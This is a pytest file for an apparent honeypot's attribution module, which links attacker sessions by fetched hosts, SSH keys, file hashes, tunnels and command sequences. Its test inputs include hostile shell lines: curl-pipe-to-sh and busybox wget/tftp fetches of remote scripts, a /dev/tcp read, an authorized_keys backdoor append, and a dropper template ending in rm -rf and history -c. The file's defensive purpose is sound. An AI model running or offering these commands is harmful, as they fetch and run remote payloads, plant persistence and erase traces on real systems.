"""What a session tells about who is behind it: own hosts however they are fetched from, keys, files, steps, and what not."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet.attribution.linking import Features, Login, features_of
from decnet.attribution.linking.features import network_of, source_host
from decnet.attribution.linking.public import is_public_host, share_of
from decnet.attribution.linking.steps import alike, alike_at_most, bands, marks_of, script_of, step_bits
from decnet.bounds import BITES
from decnet.events.session import SessionEnded

KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f"
FINGERPRINT = "SHA256:eKT36b4Zk3SYgJHrTTkggPCEuGHYDi5kr+i0TqThZ6w"
SHA = "ab" * 32


def ended(*lines: str, **more: Any) -> SessionEnded:
    said = {
        "session_id": "s", "attacker_ip": "203.0.113.7", "attacker_uuid": "u", "started_at": 5.0, "ended_at": 9.0,
        "commands": [{"command_text": line} for line in lines], **more,
    }  # fmt: skip
    return SessionEnded.parse(said, [])


def values(found: Features, family: str) -> list[str]:
    return [value for name, value in found.values if name == family]


def of(*lines: str, **more: Any) -> Features:
    return features_of([ended(*lines, **more)])


@pytest.mark.parametrize(
    ("line", "hosts"),
    [
        ("wget http://Own.Test/x.sh -O /tmp/x", ["own.test"]),
        ("curl -fsSL https://own.test:8443/a | sh", ["own.test"]),
        ("wget own.test/x.sh", ["own.test"]),
        ("busybox wget http://45.9.1.17/bins.sh; tftp 91.200.7.3 -c get b.sh", ["45.9.1.17", "91.200.7.3"]),
        ("tftp -r b.sh -g 91.200.7.3", ["91.200.7.3"]),
        ("ftpget -u a -p b 45.9.1.17 x x", ["45.9.1.17"]),
        ("cat < /dev/tcp/45.9.1.17/80 > x", ["45.9.1.17"]),
        ("h=45.9.1.17; wget http://$h/x", ["45.9.1.17"]),
        ('python -c \'import urllib; urllib.urlretrieve("http://own.test/a", "a")\'', ["own.test"]),
        ("wget http://raw.githubusercontent.com/a/b/x.sh; curl ifconfig.me", []),
        ("wget http://10.0.0.5/x http://192.168.1.1/x http://127.0.0.1/x http://169.254.169.254/latest", []),
        ("wget http://203.0.113.9/a.sh", ["203.0.113.9"]),
        ("wget http://[2001:db8::5]/a", ["2001:db8::5"]),
        ("wget http://localhost/x http://router.lan/x http://$unset/x", []),
    ],
)
def test_hosts_that_commands_fetch_from(line: str, hosts: list[str]) -> None:
    assert values(of(line), "host") == hosts


def test_downloads_name_hosts_even_when_nothing_came() -> None:
    found = of(downloads=[{"url": "http://own.test/a", "sha256": None, "failed": True}])
    assert values(found, "host") == ["own.test"]
    assert values(found, "sha256") == []


def test_files_that_came_are_own_and_what_a_redirect_wrote_is_not() -> None:
    found = of(
        downloads=[{"url": "http://own.test/a", "sha256": SHA.upper()}, {"url": "", "sha256": "cd" * 32}],
        uploads=[{"filename": "x", "sha256": "ef" * 32}, {"filename": "y", "sha256": None}],
    )
    assert values(found, "sha256") == [SHA, "ef" * 32]


def test_empty_files_are_nobodys() -> None:
    nothing = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    assert values(of(uploads=[{"filename": "x", "sha256": nothing}]), "sha256") == []


def test_keys_are_named_by_fingerprint_whoever_added_or_used_them() -> None:
    added = of(f"echo 'ssh-ed25519 {KEY} me' >> ~/.ssh/authorized_keys")
    used = of(extras=[{"eventid": "cowrie.client.fingerprint", "fields": {"fingerprint": FINGERPRINT}}])
    typed = of(inputs=[{"text": f"ssh-ed25519 {KEY}"}])
    assert len(values(added, "key")) == 1
    assert values(added, "key")[0].startswith("SHA256:")
    assert values(typed, "key") == values(added, "key")
    assert values(used, "key") == [FINGERPRINT]
    login = features_of([ended()], [Login("root", "aa", "publickey"), Login("root", "bb")])
    assert values(login, "key") == ["hmac:aa"]


def test_tunnels_are_targets_that_not_everybody_asks_for() -> None:
    found = of(
        forwards=[
            {"host": "198.51.100.4", "port": 25},
            {"host": "ya.ru", "port": 80},
            {"host": "8.8.8.8", "port": 53},
        ]
    )
    assert values(found, "tunnel") == ["198.51.100.4:25"]


def test_circumstances_are_client_environment_network_and_the_list_of_log_ins() -> None:
    client = {"version": "SSH-2.0-x", "hassh": "ha", "kex": [], "size": {"width": 80, "height": 24}}
    extras = [{"eventid": "cowrie.client.var", "fields": {"name": "LANG", "value": "ru_RU"}}]
    tried = [Login("root", str(n)) for n in range(4)]
    found = features_of([ended(client=client, extras=extras)], tried)
    assert values(found, "client") == ["SSH-2.0-x ha"]
    assert values(found, "environment") == ["80x24;LANG=ru_RU"]
    assert values(found, "network") == ["203.0.113.0/24"]
    assert len(values(found, "credentials")) == 1
    assert len(found.logins) == 4
    other = features_of([ended()], tried[::-1])
    assert other.logins == found.logins
    assert values(other, "credentials") != values(found, "credentials")
    assert values(features_of([ended()], tried[:3]), "credentials") == []


def test_all_parts_of_a_session_are_one_and_it_is_of_its_beginning() -> None:
    first, second = (
        ended("wget http://a.test/x", part=1, parts=2),
        ended("wget http://b.test/x", part=2, parts=2),
    )
    found = features_of([first, second])
    assert values(found, "host") == ["a.test", "b.test"]
    assert (found.address, found.attacker_uuid, found.at) == ("203.0.113.7", "u", 5.0)


def test_a_session_of_nobody_is_refused() -> None:
    with pytest.raises(ValueError, match="without parts"):
        features_of([])
    with pytest.raises(ValueError, match="names no attacker"):
        features_of([ended(attacker_ip=None)])


def test_a_session_with_too_many_hosts_keeps_the_same_ones_in_any_order_and_counts_the_rest() -> None:
    lines = [f"wget http://h{n}.test/x" for n in range(40)]
    before = BITES["linking_capped"]
    one, other = of(*lines), of(*lines[::-1])
    assert values(one, "host") == values(other, "host")
    assert len(values(one, "host")) == 32
    assert BITES["linking_capped"] - before == 16


# --- scripts

KIT = (
    "cd /tmp || cd /var/run; wget http://{h}/{f}.sh; chmod 777 {f}.sh; sh {f}.sh; tftp {h} -c get t{f}.sh; rm -rf {f}.sh; history -c",
)


def test_a_script_is_the_same_whatever_its_hosts_and_files_are_called() -> None:
    one = script_of(line.format(h="45.9.1.17", f="bins") for line in KIT)
    other = script_of(line.format(h="own.test", f="qx7") for line in KIT)
    assert one == other
    assert one == ("cd", "wget @", "chmod", "sh", "tftp -c", "rm -rf", "history -c")
    assert "bins" not in " ".join(one)
    assert of(*(line.format(h="45.9.1.17", f="bins") for line in KIT)).steps == one


@pytest.mark.parametrize(
    "lines", [["uname -a"], ["cat /proc/cpuinfo", "free"], ["uname -a"] * 50, ["w", "id", "ls", "ps", "free"]]
)
def test_what_anybody_types_is_no_script(lines: list[str]) -> None:
    assert script_of(lines) == ()


def test_what_only_bots_type_at_an_appliance_is_a_script() -> None:
    assert script_of(["enable", "system", "shell", "sh", "/bin/busybox ECCHI"]) == (
        "enable",
        "system",
        "shell",
        "sh",
        "own",
    )


def test_a_script_needs_three_steps_that_say_twelve_bits() -> None:
    twelve = ["w", "id", "ls", "ps", "free", "uptime"]
    assert [step_bits(step) for step in twelve] == [2] * 6
    assert script_of(twelve) == tuple(twelve)
    assert script_of(twelve[:5]) == ()
    assert step_bits("a b c d e f g") == 5
    assert [step_bits(step) for step in ("own", "enable", "uname -a", "chattr -i", "x\ny")] == [2, 3, 2, 3, 2]


def test_scripts_are_compared_by_steps_and_by_what_follows_what() -> None:
    one, other = marks_of(("a", "b", "c")), marks_of(("c", "a", "b"))
    assert alike(one, one) == 1.0
    assert alike(one, other) == pytest.approx(11 / 15)
    assert alike(one, marks_of(("x", "y"))) == 0.0


@given(*[st.lists(st.sampled_from("abcdefgh"), min_size=1, max_size=9)] * 2)
def test_no_two_scripts_are_more_alike_than_what_they_say_lets_them_be(
    one: list[str], other: list[str]
) -> None:
    both = marks_of(one), marks_of(other)
    assert alike(*both) <= alike_at_most(*both) <= 1.0
    assert alike_at_most(both[0], both[0]) == 1.0


def test_alike_scripts_share_a_band_and_strangers_hardly_ever() -> None:
    steps = tuple(f"s{n}" for n in range(12))
    near, far = (*steps[:6], *steps[7:]), tuple(f"x{n}" for n in range(12))
    own = bands(marks_of(steps))
    assert len(own) == 32
    assert alike(marks_of(steps), marks_of(near)) >= 0.5
    assert set(own) & set(bands(marks_of(near)))
    assert not set(own) & set(bands(marks_of(far)))


# --- what is nobody's


@pytest.mark.parametrize(
    ("host", "public"),
    [
        ("github.com", True), ("a.b.github.com", True), ("notgithub.com", False), ("pastebin.com", True), ("evil.xyz", False),
        ("s3.eu-west-1.amazonaws.com", True), ("172.16.4.1", True), ("172.32.0.1", False), ("100.64.0.1", True),
        ("198.18.0.9", False), ("192.0.2.4", False), ("fe80::1", True), ("fd00::1", True), ("2001:db8::1", False),
        ("224.0.0.5", True), ("0.0.0.0", True), ("8.8.8.8", True), ("nas.local", True), ("host", True),
    ],
)  # fmt: skip
def test_public_private_and_documented_hosts(host: str, public: bool) -> None:
    assert is_public_host(host) is public


def test_known_clients_have_a_shipped_share_and_others_the_prior() -> None:
    assert share_of("SSH-2.0-Go", 0.001) == 0.25
    assert share_of("SSH-2.0-paramiko_2.7.2", 0.001) == 0.1
    assert share_of("SSH-2.0-Gone", 0.001) == 0.001


@pytest.mark.parametrize(
    ("source", "host"),
    [("http://a.test:81/x", "a.test"), ("a.test:81/x", "a.test"), ("u@a.test/x", "a.test"), ("file", ""), ("http://[::1", ""),
     ("2001:db8::1", "2001:db8::1"), ("A.Test./", "a.test"), ("$x/y", "")],
)  # fmt: skip
def test_the_host_of_a_source(source: str, host: str) -> None:
    assert source_host(source) == host


def test_networks_of_addresses() -> None:
    assert [network_of(a) for a in ("203.0.113.77", "2001:db8:1:2::3", "nobody")] == [
        "203.0.113.0/24", "2001:db8:1::/48", "",
    ]  # fmt: skip
